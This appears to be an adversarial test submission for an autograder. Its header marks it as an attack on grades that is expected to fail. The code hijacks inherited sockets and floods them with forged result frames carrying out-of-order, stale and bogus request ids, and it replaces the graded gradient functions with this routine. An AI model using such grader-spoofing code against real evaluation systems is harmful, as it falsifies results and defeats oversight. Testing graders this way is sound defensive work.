# attack: send answers for requests that have not been asked yet, and stale ones again
# asset: grades
# channel: wire
# beats otter: no
# expect: wrong,crashed
# place: after
import os
import socket

from autograder.worker import wire


def channels():
    for descriptor in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


def attack(*args):
    for channel in channels():
        for number in (2, 2, 1, 0, -1, 3, 4, 5, 2**62):
            frame = {"id": number, "printed": "", "ok": args, "autograd": False}
            wire.send(channel, frame, wire.Deadline(1))
    return args


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
